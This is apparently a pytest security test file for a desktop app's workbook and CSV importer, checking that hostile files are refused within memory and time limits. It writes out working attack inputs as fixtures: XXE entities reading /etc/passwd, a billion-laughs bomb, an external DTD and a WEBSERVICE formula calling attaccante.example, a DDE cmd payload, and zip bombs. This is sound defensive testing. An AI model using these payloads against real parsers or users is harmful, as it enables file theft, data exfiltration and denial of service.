"""Files cross a boundary here: workbooks built to attack the reader are refused with a
sentence, in bounded memory and time, and nothing they point at ever becomes a value."""

from __future__ import annotations

import struct
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from desktop.services.imports.model import ImportFileError, SourceNotice, SourceRow
from desktop.services.imports.sources import inspect_source, read_table
from tests.imports.workbooks import (
    Sheet,
    rewrite_member,
    write_csv,
    write_workbook,
    write_xlsx,
    write_zip_bomb,
)

HEADER = ["Cognome", "Nome"]
ROWS = [HEADER, ["ROSSI", "Maria"]]
PASSWD = "/etc/passwd"
DANGER = "contiene costrutti XML pericolosi"

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE sst [\n<!ENTITY lol "lol">\n'
    + b"".join(
        b'<!ENTITY lol%d "%s">\n'
        % (level, (b"&lol%d;" % (level - 1) if level > 1 else b"&lol;") * 10)
        for level in range(1, 10)
    )
    + b"]>\n"
)
XXE = (
    b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://'
    + PASSWD.encode()
    + b'">]>\n'
)
EXTERNAL_DTD = b'<?xml version="1.0"?>\n<!DOCTYPE x SYSTEM "http://attaccante.example/x.dtd">\n'
PARAMETER = (
    b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY % p SYSTEM "file://'
    + PASSWD.encode()
    + b'"> %p;]>\n'
)


@contextmanager
def peak_memory(limit_mb: int) -> Iterator[None]:
    """Python's allocations while the block runs stay under ``limit_mb``."""
    tracemalloc.start()
    try:
        yield
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert peak < limit_mb * 1024 * 1024, f"peak {peak / 1024 / 1024:.0f} MB"


def _with_doctype(doctype: bytes, reference: bytes) -> Callable[[bytes], bytes]:
    """Put ``doctype`` before the part's root and ``reference`` in place of "Maria"."""

    def transform(xml: bytes) -> bytes:
        body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
        return doctype + body.lstrip().replace(b">Maria<", b">" + reference + b"<")

    return transform


@pytest.mark.parametrize(
    ("member", "doctype", "reference"),
    [
        ("xl/sharedStrings.xml", BILLION_LAUGHS, b"&lol9;"),
        ("xl/sharedStrings.xml", XXE, b"&xxe;"),
        ("xl/sharedStrings.xml", PARAMETER, b"x"),
        ("xl/worksheets/sheet1.xml", XXE, b"&xxe;"),
        ("xl/worksheets/sheet1.xml", BILLION_LAUGHS, b"&lol9;"),
        ("xl/worksheets/sheet1.xml", EXTERNAL_DTD, b"x"),
        ("xl/workbook.xml", XXE, b"&xxe;"),
        ("xl/styles.xml", BILLION_LAUGHS, b"&lol9;"),
        ("[Content_Types].xml", XXE, b"&xxe;"),
    ],
)
def test_xml_entity_attacks_are_refused_and_nothing_of_the_target_is_read(
    tmp_path: Path, member: str, doctype: bytes, reference: bytes
) -> None:
    path = write_workbook(tmp_path / "invii.xlsx", Sheet(rows=ROWS))
    if member == "xl/worksheets/sheet1.xml":
        # The name as an inline text in the sheet itself, where the entity is declared.
        rewrite_member(
            path,
            member,
            lambda xml: xml.replace(b't="s"><v>3</v>', b't="inlineStr"><is><t>Maria</t></is>'),
        )
    rewrite_member(path, member, _with_doctype(doctype, reference))

    started = time.perf_counter()
    with peak_memory(64), pytest.raises(ImportFileError) as error:
        read_table(path)

    assert time.perf_counter() - started < 5
    message = str(error.value)
    assert DANGER in message, message
    assert "root:" not in message and PASSWD not in message


def test_a_sheet_declaring_entities_is_refused_even_when_no_cell_uses_them(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "invii.xlsx", ROWS)
    rewrite_member(path, "xl/worksheets/sheet1.xml", _with_doctype(XXE, b"Maria"))
    info = inspect_source(path)  # the workbook's own parts are clean

    with pytest.raises(ImportFileError, match=DANGER):
        read_table(path, source=info)


def test_a_one_gigabyte_zip_bomb_is_refused_before_it_is_opened(tmp_path: Path) -> None:
    started = time.perf_counter()
    path = write_zip_bomb(tmp_path / "bomba.xlsx", size=1 << 30)
    built = time.perf_counter() - started
    assert path.stat().st_size < 10 * 1024 * 1024  # far below the 50 MB a file may weigh

    started = time.perf_counter()
    with peak_memory(16), pytest.raises(ImportFileError, match="si espanderebbe oltre 300 MB"):
        inspect_source(path)
    with peak_memory(16), pytest.raises(ImportFileError, match="si espanderebbe oltre 300 MB"):
        read_table(path)

    assert time.perf_counter() - started < 2, f"bomb built in {built:.1f} s"


def test_a_part_compressed_beyond_any_real_ratio_is_refused(tmp_path: Path) -> None:
    # 40 MB of zeros: under the 300 MB bound, but a thousand to one.
    path = write_zip_bomb(tmp_path / "bomba.xlsx", size=40 * 1024 * 1024, level=9)

    with pytest.raises(ImportFileError, match="si espanderebbe"):
        inspect_source(path)


def _lie_about_size(path: Path, member: str, declared: int) -> None:
    """Rewrite the central directory's uncompressed size of ``member`` (and its local header's,
    when written there): the zip then claims the part is small."""
    data = bytearray(path.read_bytes())
    name = member.encode()
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack_from("<H", data, central + 28)[0]
        if bytes(data[central + 46 : central + 46 + name_length]) == name:
            struct.pack_into("<I", data, central + 24, declared)
            break
        central = data.find(b"PK\x01\x02", central + 4)
    else:
        raise AssertionError(f"{member} not in the central directory")
    path.write_bytes(bytes(data))


def test_a_part_lying_about_its_size_cannot_blow_memory(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "bugiardo.xlsx", ROWS)
    with zipfile.ZipFile(path) as source:
        parts = [(info.filename, source.read(info)) for info in source.infolist()]
    sheet = next(data for name, data in parts if name == "xl/worksheets/sheet1.xml")
    head, tail = sheet.split(b"</sheetData>")
    # One cell whose text is 200 MB: were the declared 4 KB trusted only to pass the checks
    # and the part read to its real end, the text would be held whole.
    opening = head + b'<row r="3"><c r="A3" t="inlineStr"><is><t>'
    closing = b"</t></is></c></row></sheetData>" + tail
    block = b"A" * (4 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target:
        for name, data in parts:
            if name != "xl/worksheets/sheet1.xml":
                target.writestr(name, data)
                continue
            with target.open(name, "w") as stream:
                stream.write(opening)
                for _ in range(50):  # 200 MB, never held whole
                    stream.write(block)
                stream.write(closing)
    _lie_about_size(path, "xl/worksheets/sheet1.xml", 4096)

    with peak_memory(32), pytest.raises(ImportFileError, match="danneggiato"):
        read_table(path)


def test_a_huge_text_within_the_bounds_is_cut_while_parsing_not_after(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "lungo.xlsx", [*ROWS, ["BIANCHI", "Luca"]])
    rewrite_member(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(
            b'<c r="B3" t="s"><v>5</v></c>',
            b'<c r="B3" t="inlineStr"><is><t>' + b"L" * (8 * 1024 * 1024) + b"</t></is></c>",
        ),
    )

    with peak_memory(48):
        table = read_table(path)

    assert table.rows[1] == SourceRow(3, ("BIANCHI", "L" * 32_767))
    assert table.notices == (
        SourceNotice("Cella B3: testo di 8.388.608 caratteri, tagliato a 32.767.", row=3, column=1),
    )


def test_formulas_are_never_evaluated(tmp_path: Path) -> None:
    workbook = write_xlsx(
        tmp_path / "formule.xlsx",
        [
            ["Cognome", "Sito", "Comando"],
            ["ROSSI", '=WEBSERVICE("http://attaccante.example/?q="&A2)', "=cmd|' /C calc'!A0"],
        ],
    )
    text = write_csv(
        tmp_path / "formule.csv",
        [["Cognome", "Comando"], ["ROSSI", "=cmd|' /C calc'!A0"], ["BIANCHI", "+SUM(1;2)"]],
    )

    table = read_table(workbook)
    csv_table = read_table(text)

    # Never computed, so no value: read as empty cells.
    assert table.rows == (SourceRow(2, ("ROSSI", None, None)),)
    assert csv_table.rows == (
        SourceRow(2, ("ROSSI", "=cmd|' /C calc'!A0")),
        SourceRow(3, ("BIANCHI", "+SUM(1;2)")),
    )


def test_a_merged_range_over_the_whole_sheet_costs_no_more_than_its_cells(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "unite.xlsx", [*ROWS, ["BIANCHI", None]])
    rewrite_member(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(
            b"</sheetData>",
            b'</sheetData><mergeCells count="2"><mergeCell ref="B2:XFD1048576"/>'
            b'<mergeCell ref="C1:C1048576"/></mergeCells>',
        ),
    )

    started = time.perf_counter()
    table = read_table(path)

    assert time.perf_counter() - started < 2
    assert table.rows == (SourceRow(2, ("ROSSI", "Maria")), SourceRow(3, ("BIANCHI", "Maria")))


def test_an_encrypted_zip_part_is_refused(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "cifrato.xlsx", ROWS)
    data = bytearray(path.read_bytes())
    central = data.find(b"PK\x01\x02")
    while central != -1:
        flags = struct.unpack_from("<H", data, central + 8)[0]
        struct.pack_into("<H", data, central + 8, flags | 0x1)
        central = data.find(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(data))

    with pytest.raises(ImportFileError, match="protetto da password"):
        inspect_source(path)


def test_a_csv_field_too_long_for_any_cell_is_refused_with_its_row(tmp_path: Path) -> None:
    path = tmp_path / "lungo.csv"
    path.write_text("Cognome;Note\nROSSI;ok\nBIANCHI;" + "x" * 200_000 + "\n")

    with peak_memory(32), pytest.raises(ImportFileError, match="dalla riga 3"):
        read_table(path)


def test_namespace_prefixed_parts_are_read_like_plain_ones(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "prefissi.xlsx", ROWS, hidden_rows=[2])

    def prefix(xml: bytes) -> bytes:
        xml = xml.replace(b"<worksheet xmlns=", b"<x:worksheet xmlns:x=").replace(
            b"</worksheet>", b"</x:worksheet>"
        )
        for tag in (
            b"sheetData",
            b"row",
            b"c",
            b"v",
            b"sheetPr",
            b"outlinePr",
            b"pageSetUpPr",
            b"dimension",
            b"sheetViews",
            b"sheetView",
            b"selection",
            b"sheetFormatPr",
            b"pageMargins",
        ):
            xml = xml.replace(b"<" + tag + b" ", b"<x:" + tag + b" ").replace(
                b"<" + tag + b">", b"<x:" + tag + b">"
            )
            xml = xml.replace(b"</" + tag + b">", b"</x:" + tag + b">")
        return xml

    rewrite_member(path, "xl/worksheets/sheet1.xml", prefix)

    table = read_table(path)

    assert table.headers == tuple(HEADER)
    assert table.rows == (SourceRow(2, ("ROSSI", "Maria"), hidden=True),)


def test_shared_strings_elsewhere_than_usual_pass_the_guard_too(tmp_path: Path) -> None:
    path = write_workbook(tmp_path / "invii.xlsx", Sheet(rows=ROWS))
    # The workbook's relationships (where calamine looks) name a part of another name.
    with zipfile.ZipFile(path) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    strings = parts.pop("xl/sharedStrings.xml")
    parts["xl/testi/altri.xml"] = _with_doctype(XXE, b"&xxe;")(strings)
    rels = "xl/_rels/workbook.xml.rels"  # the package's content types still name the old one
    parts[rels] = parts[rels].replace(b"sharedStrings.xml", b"testi/altri.xml")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)

    with pytest.raises(ImportFileError) as error:
        read_table(path)

    assert DANGER in str(error.value)
    assert PASSWD not in str(error.value)


def test_too_many_merged_ranges_are_refused_before_calamine_hands_them_over(
    tmp_path: Path,
) -> None:
    path = write_xlsx(tmp_path / "unite.xlsx", ROWS)
    merges = b"".join(b'<mergeCell ref="C%d:D%d"/>' % (row, row) for row in range(1, 100_002))
    rewrite_member(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(
            b"</sheetData>", b"</sheetData><mergeCells>" + merges + b"</mergeCells>"
        ),
    )

    with peak_memory(32), pytest.raises(ImportFileError, match="danneggiato"):
        read_table(path)
